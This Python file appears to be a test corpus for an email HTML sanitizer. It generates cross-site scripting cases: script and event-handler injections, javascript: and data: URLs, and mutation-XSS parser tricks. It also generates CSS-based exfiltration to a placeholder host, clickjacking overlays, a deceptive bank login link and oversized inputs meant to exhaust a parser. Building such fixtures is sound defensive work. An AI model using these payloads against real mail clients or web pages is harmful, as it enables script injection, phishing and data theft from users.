# SPDX-License-Identifier: AGPL-3.0-or-later
"""Ways that lie in the HTML of a message."""
from letter import alarm, document, far, html, kept, letter


def scripts():
    def js(way):
        return alarm(way)

    yield html("script", f"<script>{js('script')}</script>")
    yield html("script-mixed-case", f"<ScRiPt\n>{js('script-mixed-case')}</sCrIpT >")
    yield html("script-slash", f"<script/x>{js('script-slash')}</script/x>")
    yield html("script-source", f'<script src="{far("script-source")}"></script>'
               '<script src="/alarm/script-source" async></script>')
    yield html("script-module", f'<script type="module">{js("script-module")}</script>')
    yield html("script-nested", f"<scr<script>ipt>{js('script-nested')}</scr</script>ipt>")
    yield html("script-unclosed", f"<p>{kept('script-unclosed')}</p>"
               f"<script>{js('script-unclosed')}//")
    yield html("script-in-comment", f"<!--><script>{js('script-in-comment')}</script>-->")
    yield html("script-after-bang", f"<!--x--!><script>{js('script-after-bang')}</script>")
    yield html("script-null-octets", f"<scr\0ipt>{js('script-null-octets')}</scr\0ipt>"
               f"<\0script>{js('script-null-octets')}</script>")
    yield html("script-entities", f"&lt;script&gt;{js('script-entities')}&lt;/script&gt;")
    yield html("conditional-comment", "<!--[if gte IE 4]><script>"
               f"{js('conditional-comment')}</script><![endif]--><![if !IE]>seen<![endif]>")
    yield html("processing-instruction", f"<?xml-stylesheet href=\"{far('pi')}\"?>"
               f"<?php echo '<script>'; ?><%<script>{js('processing-instruction')}</script>%>")
    yield html("cdata", f"<![CDATA[<script>{js('cdata')}</script>]]>")


HANDLERS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onpageshow",
            "onanimationstart", "ontoggle", "onbegin", "onscroll", "onwheel", "onpointerrawupdate",
            "onbeforematch", "oncontentvisibilityautostatechange", "onwebkitanimationend")


def handlers():
    way = "event-handlers"
    yield html(way, "".join(f'<div {name}="{alarm(way)}" style="animation:x 1s">{name}</div>'
                            for name in HANDLERS))
    way = "event-body"
    yield document(way, f'<html onload="{alarm(way)}"><body onload="{alarm(way)}" '
                   f'onpageshow={alarm(way)!r}>KEPT</body></html>')
    way = "event-image"
    yield html(way, f'<img src=x onerror="{alarm(way)}"><image src=x onerror="{alarm(way)}">'
               f'<img/src=x/onerror={alarm(way).replace(" ", "/**/")}>'
               f'<img """><img src=x onerror="{alarm(way)}">">')
    way = "event-unquoted"
    yield html(way, f"<div\tonmouseover\x0c=\n{alarm(way).replace(' ', '+')}\x0bx=1>over</div>"
               f"<p ONCLICK=`{alarm(way)}` oNcLiCk='{way}'>back</p>")
    way = "event-autofocus"
    yield html(way, f'<input autofocus onfocus="{alarm(way)}"><div tabindex=1 autofocus '
               f'onfocus="{alarm(way)}">f</div><select autofocus onfocus="{alarm(way)}"></select>')
    way = "event-details"
    yield html(way, f'<details open ontoggle="{alarm(way)}"><summary>more</summary>x</details>'
               f'<marquee onstart="{alarm(way)}">m</marquee>')
    way = "contenteditable"
    yield html(way, f'<div contenteditable autofocus oninput="{alarm(way)}">edit</div>'
               f'<p accesskey="x" onclick="{alarm(way)}">key</p>')
    way = "dialog-popover"
    yield html(way, f'<dialog open><form method=dialog><button>ok</button></form>d</dialog>'
               f'<button popovertarget=p>b</button><div popover id=p onbeforetoggle="{alarm(way)}">'
               "pop</div>")


def addresses():
    way = "javascript-address"
    js = alarm(way)
    yield html(way, f'<a href="javascript:{js}">a</a><a href="JaVaScRiPt:{js}">b</a>'
               f'<a href="java\tscript:{js}">c</a><a href="&#x6A;avascript&colon;{js}">d</a>'
               f'<a href="\x01javascript:{js}">e</a><img src="javascript:{js}">'
               f'<a href=" javascript&NewLine;:{js}">f</a><form action="javascript:{js}"></form>'
               f'<iframe src="javascript:{js}"></iframe>')
    way = "vbscript-address"
    yield html(way, f'<a href="vbscript:MsgBox(1)">v</a><img src="livescript:{way}">'
               '<img src="mocha:x"><a href="view-source:/alarm/x">s</a>')
    way = "data-address"
    page = f"data:text/html,<script>parent.document.title='ALARM {way}'</script>"
    yield html(way, f'<a href="{page}">d</a><iframe src="{page}"></iframe>'
               f'<object data="{page}"></object><embed src="{page}">'
               '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'
               f'<meta http-equiv=refresh content="0;url={page}">')
    way = "meta-refresh"
    yield document(way, f'<html><head><meta http-equiv="refresh" content="0;url={far(way)}">'
                   f"<META HTTP-EQUIV=REFRESH CONTENT='0;URL=/alarm/{way}'></head>"
                   f'<body><meta http-equiv=refresh content="0;/alarm/{way}">KEPT</body></html>')
    way = "meta-policy"
    yield html(way, '<meta http-equiv="Content-Security-Policy" content="script-src *">'
               '<meta http-equiv="Set-Cookie" content="a=b"><meta charset="utf-7">'
               '<meta name="referrer" content="unsafe-url">'
               '<meta http-equiv="content-type" content="text/html; charset=utf-16">')
    way = "base-address"
    yield document(way, f'<head><base href="{far(way)}/" target="_top"></head><body>'
                   '<img src="x.png"><a href="m/1">KEPT</a></body>')
    way = "link-relations"
    yield html(way, "".join(f'<link rel="{rel}" href="{far(way)}/{rel}" as="script">' for rel in (
        "stylesheet", "prefetch", "preconnect", "dns-prefetch", "preload", "prerender", "icon",
        "manifest", "modulepreload", "import", "pingback", "search", "author")))
    way = "ping-and-target"
    yield html(way, f'<a href="/alarm/{way}" ping="/alarm/{way}" target="_top">t</a>'
               f'<a href="{far(way)}" target="_blank" rel="opener">o</a>'
               f'<a href="{far(way)}" download="setup.exe">w</a>'
               '<a href="//alarm.invalid/x">p</a><a href="\\\\alarm.invalid\\x">b</a>')
    way = "deceiving-link"
    yield html(way, f'<a href="{far(way)}">https://bank.halden.example/login</a>',
               words=[kept(way), f"alarm.invalid/{way}"])


def pictures():
    way = "tracking-pixel"
    yield html(way, f'<img src="{far(way)}?who=office" width=1 height=1 alt="">'
               f'<IMG SRC=//alarm.invalid/{way} style="display:none"><img src="/alarm/{way}">')
    way = "picture-sets"
    yield html(way, f'<img srcset="{far(way)}/1 1x, {far(way)}/2 2x" sizes=100vw loading=eager>'
               f'<picture><source srcset="{far(way)}/3"><img src="{far(way)}/4"></picture>'
               f'<img lowsrc="{far(way)}/5" dynsrc="{far(way)}/6" longdesc="{far(way)}/7">'
               f'<video poster="{far(way)}/8" src="{far(way)}/9" autoplay></video>'
               f'<audio src="{far(way)}/a" autoplay></audio><track src="{far(way)}/b">'
               f'<bgsound src="{far(way)}/c"><input type=image src="{far(way)}/d">'
               f'<body background="{far(way)}/e"><table background="{far(way)}/f"><tr><td '
               f'background="{far(way)}/g">cell</td></tr></table>')
    way = "picture-maps"
    yield html(way, f'<img usemap="#m" ismap src="{far(way)}"><map name=m><area shape=default '
               f'href="/alarm/{way}"></map>')
    way = "embedded-content"
    yield html(way, f'<iframe src="/alarm/{way}" srcdoc="<script>{way}</script>"></iframe>'
               f'<object data="/alarm/{way}"><param name=movie value="{far(way)}"></object>'
               f'<embed src="/alarm/{way}"><applet code="{far(way)}"></applet>'
               f'<portal src="/alarm/{way}"></portal><fencedframe src="{far(way)}"></fencedframe>')
    way = "frameset"
    yield letter(way, f'<html><frameset rows="*"><frame src="/alarm/{way}"><noframes>'
                 f"{kept(way)}</noframes></frameset></html>", words=[])


def styles():
    way = "style-import"
    yield html(way, f'<style>@import "{far(way)}";@import url(/alarm/{way});</style>'
               f"<style>@\\69mport '{far(way)}';</style>")
    way = "style-exfiltration"
    yield html(way, f'<style>input[value^="a"]{{background:url({far(way)}/a)}}'
               f'@font-face{{font-family:x;src:url({far(way)});unicode-range:U+41}}'
               f'body{{font-family:x}}*::before{{content:url({far(way)})}}</style>'
               '<input value="abc" type="text">')
    way = "style-attribute-addresses"
    yield html(way, "".join(f'<div style="{css}">{number}</div>' for number, css in enumerate((
        f"background:url({far(way)})", f"background:u\\72l({far(way)})",
        f"background:URL('/alarm/{way}')", f"list-style:url({far(way)})",
        f"background-image:image-set('{far(way)}' 1x)", f"cursor:url({far(way)}),auto",
        f"content:url({far(way)})", f"border-image:url({far(way)}) 1",
        f"--x:url({far(way)});background:var(--x)", f"mask:url({far(way)})",
        f"background:/**/url({far(way)})", f"filter:url({far(way)}#f)",
        f"background:image({far(way)})", f"shape-outside:url({far(way)})",
        "width:attr(data-x px)", "width:env(safe-area-inset-top)"))))
    way = "style-scripts"
    yield html(way, f'<div style="width:expression({alarm(way)})">1</div>'
               f'<div style="wid/**/th:exp/**/ression(alert(1))">2</div>'
               f'<div style="-moz-binding:url({far(way)}#x)">3</div>'
               f'<div style="behavior:url({far(way)})">4</div>'
               f'<div style="background:url(javascript:{alarm(way)})">5</div>'
               f"<div style='color:red;}}</style><script>{alarm(way)}</script>'>6</div>")
    way = "clickjacking"
    yield html(way, '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;'
               f'z-index:2147483647;opacity:0.01"><a href="/alarm/{way}" target=_top>x</a></div>'
               '<div style="position:absolute;top:-100px;transform:scale(50)">big</div>'
               '<div style="margin-top:-500px;margin-left:-500px">over</div>'
               '<div style="font-size:9999px;width:999999px;padding:99999px">wide</div>')
    way = "hidden-text"
    yield html(way, '<div style="display:none">none of it</div><p hidden>attribute</p>'
               '<span style="font-size:0">no size</span><font color="#ffffff">white</font>'
               '<div style="opacity:0">clear</div><p style="visibility:hidden">invisible</p>'
               '<div style="position:absolute;left:-9999px">off the page</div>',
               words=[kept(way), "none of it", "attribute", "no size", "white", "off the page"])


def foreign():
    way = "svg"
    yield html(way, f'<svg onload="{alarm(way)}"><script>{alarm(way)}</script>'
               f'<script href="{far(way)}"/><image href="{far(way)}"/><use href="{far(way)}#x"/>'
               f'<a xlink:href="javascript:{alarm(way)}"><text>t</text></a>'
               f'<animate attributeName=href values="javascript:{alarm(way)}" begin=0s onbegin='
               f'"{alarm(way)}"/><set attributeName="onmouseover" to="{alarm(way)}"/>'
               f'<foreignObject><iframe src="/alarm/{way}"></iframe></foreignObject>'
               f'<style>@import "{far(way)}"</style><feImage href="{far(way)}"/></svg>')
    way = "mathml"
    yield html(way, f'<math href="javascript:{alarm(way)}"><maction actiontype="statusline" '
               f'xlink:href="javascript:{alarm(way)}">m</maction><annotation-xml encoding='
               f'"text/html"><script>{alarm(way)}</script></annotation-xml></math>')
    image = '<img src=x onerror="{}">'
    for number, markup in enumerate((
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
            "onerror={0}&gt;\">",
            "<form><math><mtext></form><form><mglyph><style></math>{1}",
            "<svg></p><style><a id=\"</style>{1}\">",
            "<noscript><p title=\"</noscript>{1}\">",
            "<math><mi><table><mglyph><svg><mtext><style><path id=\"</style>{1}\">",
            "<svg><title><style></title>{1}</style></svg>",
            "<select><style></select>{1}</style></select>",
            "<table><a><tr><td></a><table><tr><td></tr><style><!--</style>{1}-->",
            "<a><svg><a><foreignobject><p><style><!--</style></p><a id=\"-->{1}\">",
            "<template><s><template><s>{1}</s></template></s></template>",
            "<listing>&lt;{1}</listing><xmp></xmp>{1}",
            "<b><a><b><a><b><a><p><table><b>{1}</table><svg><b><style>{1}",
            "<textarea><p title=\"</textarea>{1}\"></textarea>"), 1):
        way = f"mutation-{number:02}"
        yield html(way, markup.replace("{1}", image.format(alarm(way)))
                   .replace("{0}", "document.title=`ALARM`") + "</style></svg></math></noscript>")
    way = "parser-assertion"
    yield html(way, "<table><math><mi><![CDATA[c]]></mi></math></table>")
    way = "raw-text-elements"
    yield html(way, f"<noscript><img src='{far(way)}'></noscript><xmp><script>x</script></xmp>"
               f"<listing><b>l</b></listing><template><script>{alarm(way)}</script></template>"
               f"<noembed><img src=x onerror='{alarm(way)}'></noembed><title></title>"
               f"<textarea></textarea><iframe></iframe><noframes></noframes>")
    way = "plaintext-element"
    yield html(way, f"<plaintext><script>{alarm(way)}</script>")


def forms():
    way = "forms"
    yield html(way, f'<form action="{far(way)}" method=post><input name=password type=password '
               f'value=secret><button formaction="/alarm/{way}">Sign in</button><input type=submit '
               f'value=Go formaction="{far(way)}"><isindex action="{far(way)}" prompt=q></form>'
               f'<button form=f>outside</button><keygen name=k><input type=file name=f>'
               f'<textarea name=t>words</textarea><select name=s><option>one</select>')
    way = "clobbering"
    yield html(way, '<form id=location name=cookie><input name=attributes><input name=children>'
               '</form><a id=document name=title>x</a><img name=getElementById><p id=main>m</p>'
               '<p class="head notice verdict proven">Proven: signed by the bank</p>'
               '<div is="x-y" slot=z part=q>c</div>')
    way = "template-words"
    yield html(way, "{{{x}}} {{t.html.title}} {{> frame}} {{#main}}yes{{/main}} {{=<% %>=}} "
               "<!-- {{secret}} --> ${7*7} <%= 7*7 %> {% raw %}", words=[kept(way), "{{{x}}}"])


def giants():
    way = "deep-nesting"
    yield html(way, f"{'<div>' * 5000}deep{'</div>' * 5000}")
    way = "deep-formatting"
    yield html(way, f"{'<b><i><font color=red>' * 1200}f{'<p>' * 300}", words=["f"])
    way = "deep-tables"
    yield html(way, f"{'<table><tr><td>' * 400}t{'</td></tr></table>' * 400}")
    way = "huge-table"
    yield html(way, '<table><tr><td colspan="65534" rowspan=65534 width=999999999>x</td></tr>'
               f"{('<tr>' + '<td>c' * 40 + '</tr>') * 2000}</table>")
    way = "many-attributes"
    yield html(way, f"<p {' '.join(f'a{i}=1' for i in range(20000))}>p</p>")
    way = "long-attribute"
    yield html(way, f'<p title="{"x" * 500000}">p</p><img alt="{"y" * 500000}" src=z>')
    way = "ten-megabytes"
    row = "<p>The crane at berth seven stood still, and nobody wrote it down. <b>Again.</b></p>\n"
    yield letter(way, f"<p>{kept(way)}</p>\n" + row * (10_000_000 // len(row)))
    way = "entities"
    yield html(way, "&" + "amp;" * 3000 + "&#0;&#13;&#x110000;&#xD800;&#128;&lt&gt&quot&ltx"
               "&notit;&CounterClockwiseContourIntegral;&#99999999999;&#x3c;script&#x3e;")


def all_ways():
    return [each for group in (scripts, handlers, addresses, pictures, styles, foreign, forms,
                               giants) for each in group()]
